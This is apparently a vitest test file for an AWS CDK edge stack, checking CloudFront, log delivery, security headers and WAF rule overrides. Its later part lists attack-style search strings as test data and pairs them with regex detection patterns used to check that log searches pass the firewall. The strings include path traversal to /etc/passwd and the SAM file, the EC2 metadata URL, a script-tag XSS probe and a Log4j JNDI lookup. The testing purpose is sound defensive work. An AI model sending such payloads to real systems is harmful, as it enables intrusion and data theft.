import { Match, Template } from 'aws-cdk-lib/assertions';
import { edgeHeaders, securityHeadersFor } from '@svc/contracts';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { synthesised } from './synth.ts';

const template = synthesised().templates.edge;

interface Behavior {
  readonly PathPattern?: string;
  readonly TargetOriginId: string;
  readonly ViewerProtocolPolicy: string;
  readonly Compress: boolean;
  readonly FunctionAssociations?: readonly unknown[];
}

interface DistributionConfig {
  readonly DefaultCacheBehavior: Behavior;
  readonly CacheBehaviors: readonly Behavior[];
  readonly Origins: readonly { readonly Id: string; readonly OriginCustomHeaders?: readonly object[] }[];
}

function distribution(from = template): DistributionConfig {
  const [found] = Object.values(from.findResources('AWS::CloudFront::Distribution'));
  return (found as { Properties: { DistributionConfig: DistributionConfig } }).Properties.DistributionConfig;
}

describe('the edge', () => {
  it('speaks HTTP/3 and TLS only, and compresses', () => {
    template.hasResourceProperties('AWS::CloudFront::Distribution', {
      DistributionConfig: Match.objectLike({ HttpVersion: 'http2and3', Logging: Match.absent() }),
    });
    const { DefaultCacheBehavior, CacheBehaviors } = distribution();
    for (const behavior of [DefaultCacheBehavior, ...CacheBehaviors]) {
      expect(behavior).toMatchObject({ ViewerProtocolPolicy: 'redirect-to-https', Compress: true });
    }
  });

  it.each([
    [{}, 'svc-edge'],
    [{ account: '111111111111', region: 'us-east-1' }, 'svc-edge'],
    // As in every region that takes no logs of the older kind.
    [{ account: '111111111111', region: 'eu-south-1', name: 'ir' }, 'ir-edge-eu-south-1'],
  ])('has its logs delivered from us-east-1 to a bucket of its own region, without cookies: %j', (context, Name) => {
    const { edgeLogs, templates, firewall } = synthesised(context);
    expect(edgeLogs?.region).toBe(firewall?.region);
    const from = edgeLogs === null ? templates.edge : Template.fromStack(edgeLogs);
    if (edgeLogs !== null) templates.edge.resourceCountIs('AWS::Logs::DeliverySource', 0);
    from.hasResourceProperties('AWS::Logs::DeliverySource', { Name, LogType: 'ACCESS_LOGS' });
    from.hasResourceProperties('AWS::Logs::DeliveryDestination', { Name, OutputFormat: 'w3c' });
    const [delivery] = Object.values(from.findResources('AWS::Logs::Delivery'));
    const { RecordFields, DeliverySourceName } = delivery!['Properties'] as Record<string, readonly string[] | string>;
    expect(DeliverySourceName).toBe(Name);
    expect(RecordFields).toEqual(expect.arrayContaining(['c-ip', 'cs-uri-stem', 'sc-status']));
    expect(String(RecordFields)).not.toMatch(/cookie/i);
    const policies = JSON.stringify(templates.edge.findResources('AWS::S3::BucketPolicy'));
    expect(policies).toContain('{"Service":"delivery.logs.amazonaws.com"}');
    expect(policies).toContain(`:delivery-*:${Name}"`);
    expect(policies).toContain('/CloudFront/*');
    // With the older kind an access list of the bucket let CloudFront in.
    templates.edge.hasResourceProperties('AWS::S3::Bucket', {
      OwnershipControls: { Rules: [{ ObjectOwnership: 'BucketOwnerEnforced' }] },
      LifecycleConfiguration: { Rules: [Match.objectLike({ ExpirationInDays: 30 })] },
    });
  });

  it('asks its function about everything but assets', () => {
    const { DefaultCacheBehavior, CacheBehaviors } = distribution();
    const byPath = [DefaultCacheBehavior, ...CacheBehaviors].map((behavior) => [
      behavior.PathPattern ?? '*',
      behavior.TargetOriginId,
      behavior.FunctionAssociations?.length ?? 0,
    ]);
    expect(byPath).toEqual([
      ['*', 'site', 1],
      ['/assets/*', 'site', 0],
      ['/api/*', 'api', 1],
    ]);
    template.hasResourceProperties('AWS::CloudFront::Function', {
      FunctionConfig: Match.objectLike({ Runtime: 'cloudfront-js-2.0' }),
      FunctionCode: Match.stringLikeRegexp('selectRequestOriginById'),
    });
  });

  it('proves itself to the API by the secret key, whose value is in no template', () => {
    const api = distribution().Origins.find(({ Id }) => Id === 'api');
    expect(JSON.stringify(api?.OriginCustomHeaders)).toMatch(
      new RegExp(`"HeaderName":"${edgeHeaders.key}".*resolve:secretsmanager:.*:SecretString:EDGE_KEY::`),
    );
    // What CloudFront, API Gateway and load balancers write or refuse.
    for (const header of Object.values(edgeHeaders)) expect(header).not.toMatch(/^x-(edge|amz|amzn|forwarded)-/);
  });

  it('reads the bucket of the site, and nobody else does', () => {
    template.hasResourceProperties('AWS::CloudFront::OriginAccessControl', {
      OriginAccessControlConfig: Match.objectLike({ SigningBehavior: 'always' }),
    });
    template.allResourcesProperties('AWS::S3::Bucket', {
      PublicAccessBlockConfiguration: Match.objectLike({ BlockPublicAcls: true, RestrictPublicBuckets: true }),
    });
  });

  it('puts on the site what the functions put on their answers', () => {
    const [policy] = Object.values(template.findResources('AWS::CloudFront::ResponseHeadersPolicy'));
    const config = (policy as { Properties: { ResponseHeadersPolicyConfig: Record<string, object> } }).Properties
      .ResponseHeadersPolicyConfig;
    const expected = securityHeadersFor({ contentSecurityPolicy: true, uploadOrigin: '', hstsSeconds: 63_072_000 });
    const security = config['SecurityHeadersConfig'] as Record<string, Record<string, unknown>>;
    expect(JSON.stringify(security['ContentSecurityPolicy'])).toContain(expected['content-security-policy']!.trim());
    expect(security).toMatchObject({
      FrameOptions: { FrameOption: expected['x-frame-options'], Override: false },
      ReferrerPolicy: { ReferrerPolicy: expected['referrer-policy'], Override: false },
      StrictTransportSecurity: { AccessControlMaxAgeSec: 63_072_000, IncludeSubdomains: true, Override: false },
    });
    expect(config['CustomHeadersConfig']).toEqual({
      Items: [{ Header: 'permissions-policy', Value: expected['permissions-policy'], Override: false }],
    });
  });

  it('deploys assets for ever, and the shell that names them last, for nobody to keep', () => {
    const deployments = Object.values(template.findResources('Custom::CDKBucketDeployment')) as {
      Properties: { SystemMetadata: { 'cache-control': string }; Prune: boolean; Include?: string[] };
      DependsOn?: string[];
    }[];
    const shell = deployments.find(({ Properties }) => Properties.Include?.includes('index.html'));
    expect(shell?.Properties).toMatchObject({ Prune: false, SystemMetadata: { 'cache-control': 'no-store, private' } });
    expect(shell?.DependsOn?.filter((name) => /Assets|Files/.test(name)).length).toBeGreaterThanOrEqual(2);
    const assets = deployments.find(({ Properties }) => Properties.Include?.includes('assets/*'));
    expect(assets?.Properties).toMatchObject({
      Prune: false,
      SystemMetadata: { 'cache-control': 'public, max-age=31536000, immutable' },
    });
  });
});

const certificateArn = 'arn:aws:acm:us-east-1:111111111111:certificate/1';

it('answers to a domain of one’s own by TLS 1.2 and newer', () => {
  synthesised({ domain: 'logs.example.org', certificateArn }).templates.edge.hasResourceProperties(
    'AWS::CloudFront::Distribution',
    {
      DistributionConfig: Match.objectLike({
        Aliases: ['logs.example.org'],
        ViewerCertificate: Match.objectLike({ MinimumProtocolVersion: 'TLSv1.2_2021' }),
      }),
    },
  );
});

const searching = readFileSync(
  new URL('../../frontend/src/features/system/guide/searching.ts', import.meta.url),
  'utf8',
);

/** AWS WAF Developer Guide, "Baseline rule groups": every rule of the two sets, by what it looks at. */
const published =
  `NoUserAgent_HEADER UserAgent_BadBots_HEADER SizeRestrictions_QUERYSTRING SizeRestrictions_Cookie_HEADER
  SizeRestrictions_BODY SizeRestrictions_URIPATH EC2MetaDataSSRF_BODY EC2MetaDataSSRF_COOKIE EC2MetaDataSSRF_URIPATH
  EC2MetaDataSSRF_QUERYARGUMENTS GenericLFI_QUERYARGUMENTS GenericLFI_URIPATH GenericLFI_BODY
  RestrictedExtensions_URIPATH RestrictedExtensions_QUERYARGUMENTS GenericRFI_QUERYARGUMENTS GenericRFI_BODY
  GenericRFI_URIPATH CrossSiteScripting_COOKIE CrossSiteScripting_QUERYARGUMENTS CrossSiteScripting_BODY
  CrossSiteScripting_URIPATH JavaDeserializationRCE_HEADER JavaDeserializationRCE_BODY JavaDeserializationRCE_URIPATH
  JavaDeserializationRCE_QUERYSTRING Host_localhost_HEADER PROPFIND_METHOD ExploitablePaths_URIPATH Log4JRCE_HEADER
  Log4JRCE_QUERYSTRING Log4JRCE_BODY Log4JRCE_URIPATH ReactJSRCE_BODY`.split(/\s+/);

/** The searches of the guide, and of those whose logs quote attacks. */
const searches = [
  ...[...searching.matchAll(/\[\s*'((?:`[^`]+` ?)+)',/g)].flatMap(([, cell = '']) =>
    [...cell.matchAll(/`([^`]+)`/g)].map(([, search = '']) => search),
  ),
  'auth.log',
  '/etc/passwd',
  '../../windows/system32/config/sam',
  'http://169.254.169.254/latest/meta-data/',
  '<script>alert(1)</script>',
  '${jndi:ldap://198.51.100.7/a}',
  'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ',
  'sha256:'.padEnd(3000, '9f86d0'),
];

/** What a rule looks for, by its name without the part of the request: as the Developer Guide says it, in short. */
const lookedFor: Readonly<Record<string, RegExp>> = {
  SizeRestrictions: /^[^]{2049}/,
  SizeRestrictions_Cookie: /^[^]{10241}/,
  RestrictedExtensions: /\.(log|ini|bak|conf)\b/i,
  GenericLFI: /\.\.\/|\/etc\//,
  GenericRFI: /:\/\/\d+\./,
  EC2MetaDataSSRF: /169\.254\.169\.254/,
  CrossSiteScripting: /<script/i,
  Log4JRCE: /\$\{jndi:/i,
  JavaDeserializationRCE: /rO0AB/,
};

/** Whether the rule refuses the request that a page with this search sends: its query, and its address in Referer. */
function refuses(rule: string, search: string): boolean {
  const [, what = '', part = ''] = /^(.+)_([A-Z]+)$/.exec(rule) ?? [];
  // Sizes and agents are of one header each; cookies hold no search.
  const sees = part.startsWith('QUERY') || (part === 'HEADER' && what.endsWith('RCE'));
  return sees && (lookedFor[what]?.test(search) ?? false);
}

interface FirewallRule {
  readonly Name: string;
  readonly Statement: {
    readonly ManagedRuleGroupStatement?: { readonly RuleActionOverrides: { Name: string; ActionToUse: object }[] };
    readonly RateBasedStatement?: { readonly Limit: number; readonly AggregateKeyType: string };
  };
}

function firewallOf(from: Template): readonly FirewallRule[] {
  const [acl] = Object.values(from.findResources('AWS::WAFv2::WebACL', { Properties: { Scope: 'CLOUDFRONT' } }));
  return (acl as { Properties: { Rules: FirewallRule[] } }).Properties.Rules;
}

it('limits the requests of an address, and nothing else, unless told otherwise', () => {
  const rules = firewallOf(template);
  expect(rules.map(({ Statement }) => Statement)).toEqual([
    { RateBasedStatement: { Limit: 6000, AggregateKeyType: 'IP' } },
  ]);
  expect(JSON.stringify(distribution())).toContain('WebACLId');
  const without = synthesised({ waf: 'off' }).templates.edge;
  without.resourceCountIs('AWS::WAFv2::WebACL', 0);
  expect(JSON.stringify(distribution(without))).not.toContain('WebACLId');
});

it('refuses nothing for its path, query or body: a search for auth.log, or a long one, is no attack', () => {
  const counted = firewallOf(synthesised({ waf: 'managed' }).templates.edge).flatMap(
    ({ Statement }) => Statement.ManagedRuleGroupStatement?.RuleActionOverrides ?? [],
  );
  expect(counted.filter(({ ActionToUse }) => !('Count' in ActionToUse))).toEqual([]);
  const names = new Set(counted.map(({ Name }) => Name));
  // A name that the set does not have overrides nothing.
  expect([...names].filter((name) => !published.includes(name))).toEqual([]);
  const blocking = published.filter((name) => !names.has(name));
  expect(blocking.filter((name) => !/_(HEADER|COOKIE|METHOD)$/.test(name))).toEqual([]);
  for (const search of searches)
    expect([search, blocking.filter((rule) => refuses(rule, search))]).toEqual([search, []]);
});

it('would find a rule that refuses a search', () => {
  expect(searches.length).toBeGreaterThan(20);
  expect(published.filter((rule) => refuses(rule, 'auth.log'))).toContain('RestrictedExtensions_QUERYARGUMENTS');
  expect(published.filter((rule) => refuses(rule, 'x'.repeat(3000)))).toContain('SizeRestrictions_QUERYSTRING');
  expect(published.filter((rule) => refuses(rule, '${jndi:ldap://198.51.100.7/a}'))).toContain('Log4JRCE_HEADER');
});

it('keeps the firewall in us-east-1, wherever the rest is', () => {
  const context = { account: '111111111111', region: 'eu-central-1' };
  const { firewall, templates } = synthesised(context);
  expect(firewall?.region).toBe('us-east-1');
  firewallOf(Template.fromStack(firewall!));
  templates.edge.resourceCountIs('AWS::WAFv2::WebACL', 0);
  expect(JSON.stringify(distribution(templates.edge))).toMatch(/"WebACLId":\{"Fn::GetStackOutput/);
  const { firewall: none } = synthesised({ ...context, region: 'us-east-1' });
  expect(none).toBeNull();
});
